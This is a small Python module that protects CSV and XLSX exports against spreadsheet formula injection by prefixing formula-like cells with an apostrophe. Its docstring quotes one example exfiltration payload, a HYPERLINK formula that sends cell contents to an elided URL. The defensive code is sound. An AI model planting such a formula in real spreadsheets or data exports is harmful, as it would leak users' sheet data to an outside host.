"""Spreadsheet cells that must stay text: the defence against formula injection (OWASP «CSV Injection»).

A finding or an institution name comes from a protocol nokrules did not write. Excel and LibreOffice take
a cell beginning with «=», «+», «-» or «@» (also after a tab or a carriage return) for a formula, so
`=HYPERLINK("http://…?"&A1;"Нажмите")` in a protocol would become a live link that sends the sheet away.
XLSX cells are written as text (string type with Excel's «quote prefix», so editing keeps them text); CSV
cells get a leading apostrophe, which the spreadsheet shows as text and does not evaluate.
"""

from __future__ import annotations

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def formula_like(text: str) -> bool:
    """Would a spreadsheet take this text for a formula?"""
    return text.startswith(FORMULA_START)


def csv_cell(value: object) -> object:
    """A CSV cell value that no spreadsheet evaluates: a formula-like text gets a leading «'»; numbers,
    written by nokrules itself, stay numbers."""
    if isinstance(value, str) and formula_like(value):
        return "'" + value
    return value
